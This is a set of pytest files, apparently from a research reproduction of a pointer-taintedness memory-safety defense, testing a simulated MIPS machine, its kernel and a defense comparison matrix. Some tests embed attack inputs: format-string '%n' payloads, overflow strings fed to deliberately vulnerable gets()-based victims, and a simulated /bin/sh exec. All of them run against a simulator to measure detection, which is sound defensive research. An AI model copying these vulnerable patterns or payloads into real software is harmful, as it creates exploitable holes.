        assert len(expr.args) == 3
        assert isinstance(expr.args[1], Call)

    def test_indexing_chains(self):
        expr = parse_expr("a[1][2]")
        assert isinstance(expr, Index)
        assert isinstance(expr.base, Index)

    def test_adjacent_strings_concatenate(self):
        expr = parse_expr('"ab" "cd"')
        assert isinstance(expr, StringLiteral)
        assert expr.value == b"abcd\0"

    def test_sizeof(self):
        assert parse_expr("sizeof(int)").ctype == INT
        assert parse_expr("sizeof(char *)").ctype == PointerType(CHAR)

    def test_comma_expression(self):
        expr = parse_expr("(a, b)")
        assert isinstance(expr, Binary) and expr.op == ","


class TestStatements:
    def test_if_else(self):
        unit = parse("int f(int x) { if (x) return 1; else return 2; }")
        stmt = unit.functions[0].body.statements[0]
        assert isinstance(stmt, If)
        assert stmt.else_branch is not None

    def test_dangling_else_binds_inner(self):
        unit = parse(
            "int f(int x) { if (x) if (x > 1) return 1; else return 2;"
            " return 3; }"
        )
        outer = unit.functions[0].body.statements[0]
        assert outer.else_branch is None
        assert outer.then_branch.else_branch is not None

    def test_while_and_for(self):
        unit = parse(
            "int f(void) { int n; n = 0;"
            " while (n < 3) { n++; }"
            " for (n = 0; n < 5; n++) { }"
            " for (;;) { break; }"
            " return n; }"
        )
        statements = unit.functions[0].body.statements
        assert isinstance(statements[2], While)
        assert isinstance(statements[3], For)
        empty_for = statements[4]
        assert empty_for.init is None and empty_for.condition is None

    def test_for_with_declaration(self):
        unit = parse("int f(void) { for (int i = 0; i < 3; i++) { } return 0; }")
        loop = unit.functions[0].body.statements[0]
        assert isinstance(loop.init, LocalDecl)

    def test_break_continue(self):
        unit = parse(
            "int f(void) { while (1) { if (0) continue; break; } return 0; }"
        )
        assert unit.functions[0] is not None

    def test_empty_statement(self):
        unit = parse("int f(void) { ;;; return 0; }")
        assert len(unit.functions[0].body.statements) == 4


class TestParseErrors:
    @pytest.mark.parametrize(
        "source, message",
        [
            ("int f(void) { return 1 }", "expected ';'"),
            ("int f(void) { if 1 return 1; }", "expected '\\('"),
            ("int 5x;", "expected identifier"),
            ("float f(void) { return 0; }", "expected declaration"),
            ("int f(void) { int a[n]; return 0; }", "constant"),
            ("int f(void) { (*g)(); return 0; }", "direct calls"),
            ("int f(void) { return @; }", "unexpected"),
        ],
    )
    def test_diagnostics(self, source, message):
        with pytest.raises(CompileError, match=message):
            parse(source)

    def test_unterminated_block(self):
        with pytest.raises(CompileError):
            parse("int f(void) { return 0;")

    def test_error_carries_line(self):
        try:
            parse("int f(void) {\n  return 1\n}")
        except CompileError as exc:
            assert exc.line >= 2
        else:
            pytest.fail("expected CompileError")
