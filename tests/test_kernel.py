"""Simulated OS tests: syscalls, filesystem, network, process setup."""

import pytest

from repro.core.policy import PointerTaintPolicy
from repro.cpu.simulator import Simulator, SimulatorFault
from repro.isa.assembler import assemble
from repro.kernel.filesystem import (
    O_APPEND,
    O_CREAT,
    O_RDONLY,
    O_TRUNC,
    O_WRONLY,
    SimFileSystem,
)
from repro.kernel.network import Connection, ListeningSocket, ScriptedClient, SimNetwork
from repro.kernel.process import build_initial_stack
from repro.kernel.syscalls import Kernel
from repro.mem.tainted_memory import TaintedMemory

from tests.helpers import run_asm


def run_with_kernel(body, data="", **kernel_kwargs):
    source = (
        ".text\n_start:\n" + body + "\n.data\n" + (data or "pad: .word 0")
    )
    exe = assemble(source)
    kernel = Kernel(**kernel_kwargs)
    sim = Simulator(exe, PointerTaintPolicy(), syscall_handler=kernel)
    kernel.attach(sim)
    status = sim.run(max_instructions=500_000)
    return sim, kernel, status


EXIT = "li $v0, 1\nli $a0, 0\nsyscall\n"


class TestFileSyscalls:
    def test_open_read_close(self):
        fs = SimFileSystem()
        fs.add_file("/etc/motd", b"hello!")
        body = (
            "li $v0, 5\nla $a0, path\nli $a1, 0\nsyscall\n"   # open
            "move $s0, $v0\n"
            "li $v0, 3\nmove $a0, $s0\nla $a1, buf\nli $a2, 6\nsyscall\n"
            "move $s1, $v0\n"
            "li $v0, 6\nmove $a0, $s0\nsyscall\n"             # close
            + EXIT
        )
        data = 'path: .asciiz "/etc/motd"\nbuf: .space 8'
        sim, kernel, _ = run_with_kernel(body, data, filesystem=fs)
        assert sim.regs.value(16) == 3       # first dynamic fd
        assert sim.regs.value(17) == 6       # bytes read
        buf = sim.executable.address_of("buf")
        assert sim.memory.read_bytes(buf, 6) == b"hello!"
        assert sim.memory.count_tainted(buf, 6) == 6  # file data is tainted
        assert kernel.process.events[0].kind == "open"

    def test_open_missing_file_fails(self):
        body = (
            "li $v0, 5\nla $a0, path\nli $a1, 0\nsyscall\nmove $s0, $v0\n"
            + EXIT
        )
        sim, _, _ = run_with_kernel(body, 'path: .asciiz "/nope"')
        assert sim.regs.value(16) == 0xFFFFFFFF

    def test_write_to_created_file(self):
        body = (
            "li $v0, 5\nla $a0, path\nli $a1, 577\nsyscall\nmove $s0, $v0\n"
            "li $v0, 4\nmove $a0, $s0\nla $a1, msg\nli $a2, 3\nsyscall\n"
            + EXIT
        )
        data = 'path: .asciiz "/tmp/out"\nmsg: .ascii "abc"'
        _, kernel, _ = run_with_kernel(body, data)
        assert kernel.fs.read_file("/tmp/out") == b"abc"

    def test_stdout_stderr_capture(self):
        body = (
            "li $v0, 4\nli $a0, 1\nla $a1, msg\nli $a2, 2\nsyscall\n"
            "li $v0, 4\nli $a0, 2\nla $a1, msg\nli $a2, 2\nsyscall\n"
            + EXIT
        )
        _, kernel, _ = run_with_kernel(body, 'msg: .ascii "hi"')
        assert kernel.process.stdout == b"hi"
        assert kernel.process.stderr == b"hi"

    def test_stdin_consumed_incrementally(self):
        body = (
            "li $v0, 3\nli $a0, 0\nla $a1, buf\nli $a2, 3\nsyscall\n"
            "li $v0, 3\nli $a0, 0\nla $a1, buf+4\nli $a2, 10\nsyscall\n"
            "move $s0, $v0\n" + EXIT
        )
        sim, _, _ = run_with_kernel(body, "buf: .space 16", stdin=b"abcde")
        buf = sim.executable.address_of("buf")
        assert sim.memory.read_bytes(buf, 3) == b"abc"
        assert sim.memory.read_bytes(buf + 4, 2) == b"de"
        assert sim.regs.value(16) == 2   # short read at EOF

    def test_bad_fd_returns_error(self):
        body = "li $v0, 3\nli $a0, 77\nla $a1, buf\nli $a2, 4\nsyscall\nmove $s0, $v0\n" + EXIT
        sim, _, _ = run_with_kernel(body, "buf: .space 4")
        assert sim.regs.value(16) == 0xFFFFFFFF

    def test_unknown_syscall_raises(self):
        # A machine fault (not a host KeyError): corrupted $v0 values under
        # fault injection must classify as a crash, not kill the harness.
        with pytest.raises(SimulatorFault, match="unknown syscall"):
            run_with_kernel("li $v0, 222\nsyscall\n" + EXIT)


class TestProcessSyscalls:
    def test_exit_status(self):
        _, _, status = run_with_kernel("li $v0, 1\nli $a0, 42\nsyscall\n")
        assert status == 42

    def test_negative_exit_status(self):
        _, _, status = run_with_kernel("li $v0, 1\nli $a0, -1\nsyscall\n")
        assert status == -1

    def test_getpid_getuid_setuid(self):
        body = (
            "li $v0, 20\nsyscall\nmove $s0, $v0\n"
            "li $v0, 24\nsyscall\nmove $s1, $v0\n"
            "li $v0, 23\nli $a0, 0\nsyscall\n"
            "li $v0, 24\nsyscall\nmove $s2, $v0\n" + EXIT
        )
        sim, kernel, _ = run_with_kernel(body, uid=1000)
        assert sim.regs.value(16) == 4711
        assert sim.regs.value(17) == 1000
        assert sim.regs.value(18) == 0
        assert [e.kind for e in kernel.process.events] == ["setuid"]

    def test_sbrk_grows_monotonically(self):
        body = (
            "li $v0, 46\nli $a0, 4096\nsyscall\nmove $s0, $v0\n"
            "li $v0, 46\nli $a0, 4096\nsyscall\nmove $s1, $v0\n" + EXIT
        )
        sim, _, _ = run_with_kernel(body)
        assert sim.regs.value(17) == sim.regs.value(16) + 4096

    def test_brk_query_and_set(self):
        body = (
            "li $v0, 45\nli $a0, 0\nsyscall\nmove $s0, $v0\n"
            "addiu $a0, $v0, 0x100\nli $v0, 45\nsyscall\nmove $s1, $v0\n"
            + EXIT
        )
        sim, _, _ = run_with_kernel(body)
        assert sim.regs.value(17) == sim.regs.value(16) + 0x100

    def test_exec_records_event(self):
        body = "li $v0, 59\nla $a0, path\nsyscall\n" + EXIT
        _, kernel, _ = run_with_kernel(body, 'path: .asciiz "/bin/sh"')
        assert kernel.process.executed_programs() == ["/bin/sh"]


class TestSocketSyscalls:
    def _server_body(self):
        return (
            "li $v0, 60\nli $a0, 2\nli $a1, 1\nli $a2, 0\nsyscall\nmove $s0, $v0\n"
            "li $v0, 61\nmove $a0, $s0\nli $a1, 8080\nsyscall\n"
            "li $v0, 62\nmove $a0, $s0\nli $a1, 4\nsyscall\n"
            "li $v0, 63\nmove $a0, $s0\nsyscall\nmove $s1, $v0\n"
            "li $v0, 64\nmove $a0, $s1\nla $a1, buf\nli $a2, 16\nsyscall\nmove $s2, $v0\n"
            "li $v0, 65\nmove $a0, $s1\nla $a1, buf\nmove $a2, $s2\nsyscall\n"
            + EXIT
        )

    def test_accept_recv_send_roundtrip(self):
        network = SimNetwork()
        client = ScriptedClient([b"ping"])
        network.connect_client(client)
        sim, kernel, _ = run_with_kernel(
            self._server_body(), "buf: .space 16", network=network
        )
        assert sim.regs.value(18) == 4           # recv'd 4 bytes
        assert client.transcript == b"ping"      # echoed back
        buf = sim.executable.address_of("buf")
        assert sim.memory.count_tainted(buf, 4) == 4

    def test_accept_without_client_fails(self):
        sim, _, _ = run_with_kernel(
            "li $v0, 60\nli $a0,2\nli $a1,1\nli $a2,0\nsyscall\nmove $s0,$v0\n"
            "li $v0, 62\nmove $a0,$s0\nli $a1,4\nsyscall\n"
            "li $v0, 63\nmove $a0,$s0\nsyscall\nmove $s1,$v0\n" + EXIT,
        )
        assert sim.regs.value(17) == 0xFFFFFFFF

    def test_recv_on_non_connection_fails(self):
        sim, _, _ = run_with_kernel(
            "li $v0, 64\nli $a0, 0\nla $a1, buf\nli $a2, 4\nsyscall\n"
            "move $s0, $v0\n" + EXIT,
            "buf: .space 4",
        )
        assert sim.regs.value(16) == 0xFFFFFFFF

    def test_scripted_client_segments_do_not_merge(self):
        client = ScriptedClient([b"abc", b"def"])
        assert client.pull(10) == b"abc"   # one packet per recv
        assert client.pull(2) == b"de"
        assert client.pull(10) == b"f"
        assert client.pull(10) == b""      # orderly shutdown

    def test_connection_close_stops_io(self):
        connection = Connection(ScriptedClient([b"xyz"]))
        connection.closed = True
        assert connection.recv(4) == b""


class TestProcessSetup:
    def test_argv_env_layout_and_taint(self):
        memory = TaintedMemory()
        sp, argc, argv_p, envp_p = build_initial_stack(
            memory, ["prog", "-g", "123"], ["PATH=/bin"]
        )
        assert argc == 3
        assert sp % 4 == 0
        arg0 = memory.read(argv_p, 4)[0]
        assert memory.read_cstring(arg0) == b"prog"
        arg2 = memory.read(argv_p + 8, 4)[0]
        assert memory.read_cstring(arg2) == b"123"
        assert memory.read(argv_p + 12, 4)[0] == 0      # NULL terminator
        env0 = memory.read(envp_p, 4)[0]
        assert memory.read_cstring(env0) == b"PATH=/bin"
        # The strings are tainted; the pointer vectors are not.
        assert memory.count_tainted(arg2, 4) == 4
        assert memory.read(argv_p, 4)[1] == 0

    def test_taint_can_be_disabled(self):
        memory = TaintedMemory()
        _, _, argv_p, _ = build_initial_stack(
            memory, ["prog"], [], taint_args=False
        )
        arg0 = memory.read(argv_p, 4)[0]
        assert memory.count_tainted(arg0, 4) == 0

    def test_kernel_attach_sets_registers(self):
        exe = assemble(".text\n_start: li $v0,1\nli $a0,0\nsyscall\n")
        kernel = Kernel(argv=["a", "b"])
        sim = Simulator(exe, syscall_handler=kernel)
        kernel.attach(sim)
        assert sim.regs.value(4) == 2               # $a0 = argc
        assert sim.regs.value(29) < 0x7FFF8000      # $sp below stack top
        assert kernel.process.brk >= exe.data_end


class TestFileSystemUnit:
    def test_append_mode(self):
        fs = SimFileSystem()
        fs.add_file("/log", b"one")
        handle = fs.open("/log", O_WRONLY | O_APPEND)
        fs.write(handle, b"two")
        assert fs.read_file("/log") == b"onetwo"

    def test_trunc_mode(self):
        fs = SimFileSystem()
        fs.add_file("/f", b"old contents")
        fs.open("/f", O_WRONLY | O_TRUNC)
        assert fs.read_file("/f") == b""

    def test_read_only_handle_cannot_write(self):
        fs = SimFileSystem()
        fs.add_file("/f", b"x")
        handle = fs.open("/f", O_RDONLY)
        assert fs.write(handle, b"y") == -1

    def test_creat_flag_required_for_new_files(self):
        fs = SimFileSystem()
        assert fs.open("/new", O_WRONLY) is None
        assert fs.open("/new", O_WRONLY | O_CREAT) is not None
        assert fs.exists("/new")

    def test_positioned_reads(self):
        fs = SimFileSystem()
        fs.add_file("/f", b"abcdef")
        handle = fs.open("/f", O_RDONLY)
        assert fs.read(handle, 2) == b"ab"
        assert fs.read(handle, 2) == b"cd"
        assert fs.read(handle, 10) == b"ef"
        assert fs.read(handle, 10) == b""
