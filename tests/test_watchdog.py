"""Watchdog guard: identical budget semantics under both engines."""

import pytest

from repro.attacks.replay import OUTCOME_LIMIT, run_executable
from repro.core.policy import PointerTaintPolicy
from repro.cpu.machine import ExecutionLimit
from repro.cpu.pipeline import Pipeline
from repro.cpu.simulator import Simulator
from repro.isa.assembler import assemble

SPIN = ".text\n_start: b _start\n"


def make_sim():
    return Simulator(assemble(SPIN), PointerTaintPolicy())


class TestInstructionBudget:
    def test_functional_engine_stops_at_budget(self):
        sim = make_sim()
        sim.arm_watchdog(max_instructions=250)
        with pytest.raises(ExecutionLimit) as exc:
            sim.run()
        assert exc.value.reason == "instructions"
        assert sim.stats.instructions == 250

    def test_pipeline_engine_stops_at_same_budget(self):
        sim = make_sim()
        sim.arm_watchdog(max_instructions=250)
        with pytest.raises(ExecutionLimit) as exc:
            Pipeline(sim).run()
        assert exc.value.reason == "instructions"
        assert sim.stats.instructions == 250

    def test_limit_is_absolute_not_per_run(self):
        """arm_watchdog sets a ceiling on total executed instructions, so
        resuming a run does not reset the budget."""
        sim = make_sim()
        sim.arm_watchdog(max_instructions=300)
        with pytest.raises(ExecutionLimit):
            sim.run(max_instructions=100)  # engine budget trips first
        with pytest.raises(ExecutionLimit) as exc:
            sim.run()  # watchdog allows only 200 more
        assert exc.value.reason == "instructions"
        assert sim.stats.instructions == 300

    def test_structured_fields(self):
        sim = make_sim()
        sim.arm_watchdog(max_instructions=10)
        with pytest.raises(ExecutionLimit) as exc:
            sim.run()
        limit = exc.value
        assert isinstance(limit, RuntimeError)
        assert limit.pc == sim.executable.entry
        assert limit.instructions == 10

    def test_disarm_lifts_the_limit(self):
        sim = make_sim()
        sim.arm_watchdog(max_instructions=10)
        sim.disarm_watchdog()
        with pytest.raises(ExecutionLimit) as exc:
            sim.run(max_instructions=50)
        assert sim.stats.instructions == 50
        assert exc.value.reason == "instructions"


class TestWallClockDeadline:
    def test_functional_engine_observes_deadline(self):
        sim = make_sim()
        sim.arm_watchdog(max_seconds=0.0)
        with pytest.raises(ExecutionLimit) as exc:
            sim.run()
        assert exc.value.reason == "wallclock"

    def test_pipeline_engine_observes_deadline(self):
        sim = make_sim()
        sim.arm_watchdog(max_seconds=0.0)
        with pytest.raises(ExecutionLimit) as exc:
            Pipeline(sim).run()
        assert exc.value.reason == "wallclock"

    def test_enforce_watchdog_reports_partial_progress(self):
        sim = make_sim()
        sim.stats.instructions = 123
        sim.pc = 0x400010
        sim.arm_watchdog(max_seconds=0.0)
        with pytest.raises(ExecutionLimit) as exc:
            sim.enforce_watchdog()
        assert exc.value.instructions == 123
        assert exc.value.pc == 0x400010


class TestReplayIntegration:
    def test_functional_limit_outcome(self):
        result = run_executable(assemble(SPIN), max_instructions=500)
        assert result.outcome == OUTCOME_LIMIT
        assert "budget" in result.fault

    def test_pipeline_honors_max_instructions(self):
        """Before the shared watchdog the pipeline path ignored
        ``max_instructions`` entirely."""
        result = run_executable(
            assemble(SPIN), max_instructions=500, use_pipeline=True
        )
        assert result.outcome == OUTCOME_LIMIT
        assert result.sim.stats.instructions == 500

    def test_max_seconds_bounds_both_engines(self):
        for use_pipeline in (False, True):
            result = run_executable(
                assemble(SPIN),
                max_seconds=0.0,
                use_pipeline=use_pipeline,
            )
            assert result.outcome == OUTCOME_LIMIT
            assert "wall-clock" in result.fault


class TestStructuredLimitResult:
    """Overruns are structured data, not strings: services branch on
    ``RunResult.limit["reason"]`` and the unified JSON ``stats.limit``."""

    def test_wallclock_deadline_is_structured_on_both_engines(self):
        for use_pipeline in (False, True):
            result = run_executable(
                assemble(SPIN), max_seconds=0.0, use_pipeline=use_pipeline
            )
            assert result.outcome == OUTCOME_LIMIT
            assert result.limit is not None
            assert result.limit["reason"] == "wallclock"
            assert result.limit["instructions"] >= 0
            assert result.limit["pc"] >= 0

    def test_instruction_budget_is_structured(self):
        result = run_executable(assemble(SPIN), max_instructions=500)
        assert result.limit == {
            "reason": "instructions",
            "instructions": 500,
            "pc": result.limit["pc"],
        }

    def test_limit_round_trips_through_unified_json(self):
        from repro.api import validate_result_json

        result = run_executable(assemble(SPIN), max_seconds=0.0)
        payload = validate_result_json(result.to_json())
        assert payload["stats"]["limit"]["reason"] == "wallclock"
        assert payload["stats"]["limit"]["instructions"] >= 0

    def test_clean_runs_carry_no_limit(self):
        exit_asm = ".text\n_start: li $a0, 0\nli $v0, 1\nsyscall\n"
        result = run_executable(assemble(exit_asm))
        assert result.limit is None
        assert "limit" not in result.to_json()["stats"]
