"""Figure 2 / Table 4 scenario tests: detection, baselines, damage."""

import pytest

from repro.apps.synthetic import (
    all_synthetic_scenarios,
    exp1_scenario,
    exp2_scenario,
    exp3_scenario,
    leak_scenario,
    vuln_a_scenario,
    vuln_b_scenario,
)
from repro.core.policy import ControlDataPolicy, NullPolicy, PointerTaintPolicy


class TestExp1StackSmash:
    def test_detected_at_return_instruction(self):
        result = exp1_scenario().run_attack(PointerTaintPolicy())
        assert result.detected
        assert result.alert.kind == "jump"
        assert "jr $31" in result.alert.disassembly

    def test_tainted_return_address_is_0x61616161(self):
        """The paper: 'the return address is tainted as 0x61616161'."""
        result = exp1_scenario().run_attack(PointerTaintPolicy())
        assert result.alert.pointer_value == 0x61616161
        assert result.alert.taint_mask == 0xF

    def test_control_data_baseline_also_detects(self):
        """Return-address corruption is exactly what Minos/SPE catch."""
        result = exp1_scenario().run_attack(ControlDataPolicy())
        assert result.detected

    def test_unprotected_machine_hijacked(self):
        result = exp1_scenario().run_attack(NullPolicy())
        assert not result.detected
        assert exp1_scenario().attack_succeeded(result)

    def test_benign_input_returns_normally(self):
        result = exp1_scenario().run_benign(PointerTaintPolicy())
        assert result.outcome == "exit"
        assert "exp1 returned" in result.stdout


class TestExp2HeapCorruption:
    def test_detected_inside_free(self):
        result = exp2_scenario().run_attack(PointerTaintPolicy())
        assert result.detected
        assert result.alert.kind == "store"

    def test_tainted_link_is_0x61616161(self):
        result = exp2_scenario().run_attack(PointerTaintPolicy())
        assert result.alert.pointer_value == 0x61616161

    def test_control_data_baseline_misses(self):
        result = exp2_scenario().run_attack(ControlDataPolicy())
        assert not result.detected

    def test_unprotected_arbitrary_write_lands(self):
        scenario = exp2_scenario()
        result = scenario.run_attack(NullPolicy())
        assert not result.detected
        # unlink wrote the (tainted) bk value through the tainted fd.
        value, taint = result.sim.memory.read(0x61616161, 4)
        assert value == 0x61616161
        assert taint == 0xF
        assert scenario.attack_succeeded(result)

    def test_benign_heap_usage_clean(self):
        result = exp2_scenario().run_benign(PointerTaintPolicy())
        assert result.outcome == "exit"


class TestExp3FormatString:
    def test_detected_at_percent_n_store(self):
        result = exp3_scenario().run_attack(PointerTaintPolicy())
        assert result.detected
        assert result.alert.kind == "store"

    def test_planted_word_is_abcd(self):
        """The paper: '$3 ... is 0x64636261, corresponding to "abcd"'."""
        result = exp3_scenario().run_attack(PointerTaintPolicy())
        assert result.alert.pointer_value == 0x64636261

    def test_control_data_baseline_misses(self):
        result = exp3_scenario().run_attack(ControlDataPolicy())
        assert not result.detected

    def test_unprotected_count_written_to_target(self):
        scenario = exp3_scenario()
        result = scenario.run_attack(NullPolicy())
        value, taint = result.sim.memory.read(0x64636261, 4)
        assert value == 4        # %n count: "abcd" printed before it
        assert scenario.attack_succeeded(result)

    def test_benign_format_passthrough(self):
        result = exp3_scenario().run_benign(PointerTaintPolicy())
        assert result.outcome == "exit"
        assert "plain text" in result.stdout


class TestTable4FalseNegatives:
    @pytest.mark.parametrize(
        "make_scenario",
        [vuln_a_scenario, vuln_b_scenario, leak_scenario],
        ids=["integer-overflow", "auth-flag", "format-leak"],
    )
    def test_attack_evades_all_policies(self, make_scenario):
        scenario = make_scenario()
        for policy in (PointerTaintPolicy(), ControlDataPolicy()):
            result = scenario.run_attack(policy)
            assert not result.detected, scenario.name

    def test_vuln_a_damage(self):
        scenario = vuln_a_scenario()
        result = scenario.run_attack(PointerTaintPolicy())
        assert "corrupted" in result.stdout
        assert scenario.attack_succeeded(result)

    def test_vuln_a_benign_intact(self):
        result = vuln_a_scenario().run_benign(PointerTaintPolicy())
        assert "intact" in result.stdout

    def test_vuln_b_grants_access(self):
        scenario = vuln_b_scenario()
        result = scenario.run_attack(PointerTaintPolicy())
        assert "access granted" in result.stdout

    def test_vuln_b_benign_denied(self):
        result = vuln_b_scenario().run_benign(PointerTaintPolicy())
        assert "access denied" in result.stdout

    def test_leak_discloses_secret(self):
        scenario = leak_scenario()
        result = scenario.run_attack(PointerTaintPolicy())
        assert "1337c0de" in result.stdout

    def test_leak_benign_no_disclosure(self):
        result = leak_scenario().run_benign(PointerTaintPolicy())
        assert "1337c0de" not in result.stdout

    def test_percent_n_variant_of_leak_program_is_caught(self):
        """Table 4(C)'s counterpoint: the same program attacked with %n
        (instead of %x) IS detected -- only the pure read escapes."""
        from repro.attacks.replay import run_minic
        from repro.apps.synthetic import LEAK_SOURCE

        result = run_minic(
            LEAK_SOURCE, PointerTaintPolicy(), stdin=b"abcd%n"
        )
        assert result.detected
        assert result.alert.pointer_value == 0x64636261


class TestScenarioMetadata:
    def test_expected_kinds_match_observations(self):
        for scenario in all_synthetic_scenarios():
            result = scenario.run_attack(PointerTaintPolicy())
            if scenario.expected_alert_kind is None:
                assert not result.detected, scenario.name
            else:
                assert result.detected, scenario.name
                assert result.alert.kind == scenario.expected_alert_kind

    def test_control_data_expectations(self):
        for scenario in all_synthetic_scenarios():
            result = scenario.run_attack(ControlDataPolicy())
            assert result.detected == scenario.detected_by_control_data, (
                scenario.name
            )

    def test_benign_runs_never_alert(self):
        for scenario in all_synthetic_scenarios():
            result = scenario.run_benign(PointerTaintPolicy())
            assert result.outcome == "exit", scenario.name
