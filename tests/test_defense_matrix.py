"""The defense matrix: coverage claims, digest stability, schema, CLI."""

import io
import json

import pytest

from repro.api import Session, validate_result_json
from repro.cli import main as cli_main
from repro.evalx.defense_matrix import (
    DEFENSE_NAMES,
    matrix_summary,
    report_defense_matrix,
    run_defense_matrix,
    run_defense_overhead,
)

#: Campaign digest captured on the pre-refactor tree (exp3, seed 11,
#: 25 trials).  The defenses extraction must keep the default
#: taintedness path bit-identical, so this constant must never change.
PRE_REFACTOR_DIGEST = (
    "9b0588e410ed0e9184188b6567b5305abf6f4b56023b4c3a48c6e35f79829e4b"
)


@pytest.fixture(scope="module")
def matrix():
    return run_defense_matrix()


class TestCoverageClaims:
    def test_every_scenario_by_every_defense(self, matrix):
        assert len(matrix) >= 10
        for row in matrix:
            for name in DEFENSE_NAMES:
                assert isinstance(row[name], bool), (row["scenario"], name)
            assert row["category"] in (
                "control-data", "non-control-data", "false-negative",
            )

    def test_all_three_catch_return_address_smash(self, matrix):
        row = next(r for r in matrix if r["scenario"] == "exp1-stack-smash")
        assert row["category"] == "control-data"
        for name in DEFENSE_NAMES:
            assert row[name], f"{name} must catch the stack smash"

    def test_taintedness_catches_non_control_attacks_comparators_miss(
        self, matrix
    ):
        # The acceptance claim: >= 3 non-control-data scenarios detected
        # by pointer taintedness and missed by BOTH comparators.  The uid
        # overwrite (wuftpd SITE EXEC), the CGI-BIN configuration string
        # (nullhttpd heap), and the format-string config-pointer attack
        # are the paper's flagship non-control-data examples.
        taintedness_only = [
            row["scenario"]
            for row in matrix
            if row["category"] == "non-control-data"
            and row["taintedness"]
            and not row["shadow-stack"]
            and not row["pac"]
        ]
        assert len(taintedness_only) >= 3, taintedness_only
        for expected in (
            "wuftpd-site-exec",      # uid word overwrite
            "nullhttpd-heap",        # CGI-BIN configuration string
            "exp3-format-string",    # config-pointer corruption
        ):
            assert expected in taintedness_only

    def test_false_negative_rows_escape_everything(self, matrix):
        for row in matrix:
            if row["category"] == "false-negative":
                for name in DEFENSE_NAMES:
                    assert not row[name], (row["scenario"], name)

    def test_undefended_attacks_compromise(self, matrix):
        assert all(row["compromise"] for row in matrix)

    def test_summary_counts(self, matrix):
        summary = matrix_summary(matrix)
        assert summary["scenarios"] == len(matrix)
        assert summary["detected"]["taintedness"] > summary["detected"][
            "shadow-stack"
        ]
        assert summary["detected"]["taintedness"] > summary["detected"]["pac"]
        assert summary["taintedness_only"] >= 3
        assert summary["non_control_caught_by_taintedness"] >= 3

    def test_comparator_alert_lines_recorded(self, matrix):
        row = next(r for r in matrix if r["scenario"] == "exp1-stack-smash")
        assert row["alerts"]["shadow-stack"]
        assert row["alerts"]["pac"]
        assert row["checks"]["shadow-stack"] > 0
        assert row["checks"]["pac"] > 0

    def test_parallel_rows_identical(self, matrix):
        assert run_defense_matrix(workers=2) == matrix


class TestDigestStability:
    def test_default_campaign_digest_unchanged_by_refactor(self):
        result = Session().run_campaign(
            builtin="exp3", seed=11, trials=25
        )
        assert result.digest() == PRE_REFACTOR_DIGEST

    def test_alert_line_format_unchanged(self):
        result = Session().run_minic(
            "int main(void){ char b[8]; gets(b); return 0; }",
            stdin=b"a" * 32,
        )
        assert result.detected
        line = str(result.alert)
        # The exact grammar every digest and report is built on.
        assert line == (
            f"{result.alert.pc:x}: {result.alert.disassembly}   "
            f"pointer=0x61616161 taint=0xf"
        )


class TestOverhead:
    def test_overhead_rows_shape(self):
        rows = run_defense_overhead(repeats=1)
        assert [r["defense"] for r in rows] == ["none", *DEFENSE_NAMES]
        instructions = {r["instructions"] for r in rows}
        # Attached observers never change architectural behavior.
        assert len(instructions) == 1
        baseline = rows[0]
        assert baseline["checks"] == 0
        for row in rows[1:]:
            assert row["checks"] > 0
            assert row["wall_s"] > 0


class TestFacadeAndSchema:
    def test_session_matrix_experiment(self):
        session = Session(metrics=True)
        result = session.run_experiment("matrix", render=False)
        assert result.detected
        payload = validate_result_json(result.to_json())
        assert payload["stats"]["taintedness_only"] >= 3
        counters = payload["metrics"]["counters"]
        assert counters["defense.taintedness.runs"] >= 10
        assert counters["defense.shadow-stack.detections"] >= 1

    def test_run_result_defenses_block_round_trips(self):
        session = Session(defense="shadow-stack")
        result = session.run_minic(
            "int main(void){ char b[8]; gets(b); return 0; }",
            stdin=b"a" * 32,
        )
        payload = validate_result_json(result.to_json())
        block = payload["stats"]["defenses"]
        assert block["shadow-stack"]["alerts"] == 1
        assert block["shadow-stack"]["checks"] > 0
        assert json.loads(json.dumps(payload)) == payload

    def test_default_run_has_no_defenses_block(self):
        result = Session().run_minic("int main(void){ return 0; }")
        payload = validate_result_json(result.to_json())
        assert "defenses" not in payload["stats"]

    def test_schema_rejects_bad_defenses_blocks(self):
        good = {
            "kind": "run",
            "detected": False,
            "stats": {"defenses": {"pac": {"alerts": 0, "checks": 3}}},
            "metrics": {},
        }
        validate_result_json(good)
        for bad_block in (
            {},                                     # empty
            {"pac": {"alerts": -1, "checks": 0}},   # negative
            {"pac": {"alerts": 0}},                 # missing checks
            {"pac": []},                            # not a dict
            {"pac": {"alerts": True, "checks": 0}},  # bool masquerading
        ):
            payload = dict(good, stats={"defenses": bad_block})
            with pytest.raises(ValueError, match="defenses"):
                validate_result_json(payload)

    def test_session_defense_unknown_name_rejected(self):
        with pytest.raises(ValueError, match="unknown defense"):
            Session(defense="nonsense")

    def test_explicit_policy_overrides_defense_default(self):
        session = Session(defense="shadow-stack")
        result = session.run_minic(
            "int main(void){ char b[8]; gets(b); return 0; }",
            "paper",  # per-call policy wins over the defense's default
            stdin=b"a" * 32,
        )
        # Paper policy stays active: the inline taint check fires first
        # (at the tainted jr), and the comparator is merely attached.
        assert result.detected
        assert result.alert.taint_mask != 0


class TestCli:
    def test_matrix_command_json(self, tmp_path):
        out = io.StringIO()
        path = tmp_path / "matrix.json"
        code = cli_main(
            ["matrix", "--no-overhead", "--json", str(path)], out=out
        )
        assert code == 0
        text = out.getvalue()
        assert "Defense matrix" in text
        assert "wuftpd-site-exec" in text
        payload = validate_result_json(json.loads(path.read_text()))
        assert payload["stats"]["detected"]["taintedness"] >= 7

    def test_run_defense_flag(self, tmp_path):
        victim = tmp_path / "victim.c"
        victim.write_text(
            "int main(void){ char b[8]; gets(b); return 0; }"
        )
        out = io.StringIO()
        code = cli_main(
            [
                "run", str(victim),
                "--defense", "shadow-stack",
                "--stdin-text", "a" * 32,
            ],
            out=out,
        )
        assert code == 2  # detected
        assert "unprotected + shadow-stack" in out.getvalue()
