"""CLI and forensic-report tests."""

import io
import json

import pytest

from repro.api import validate_result_json
from repro.apps.synthetic import exp1_scenario, exp3_scenario
from repro.attacks.replay import run_minic
from repro.cli import main
from repro.core.policy import NullPolicy, PointerTaintPolicy
from repro.evalx.forensics import (
    explain,
    hexdump,
    provenance_report,
    recent_trace,
)

VICTIM = """
int main(void) {
    char buf[10];
    scan_string(buf);
    puts("returned");
    return 0;
}
"""


@pytest.fixture
def victim_file(tmp_path):
    path = tmp_path / "victim.c"
    path.write_text(VICTIM)
    return str(path)


def run_cli(*argv):
    out = io.StringIO()
    code = main(list(argv), out=out)
    return code, out.getvalue()


class TestCliRun:
    def test_benign_run_exit_code_and_stdout(self, victim_file):
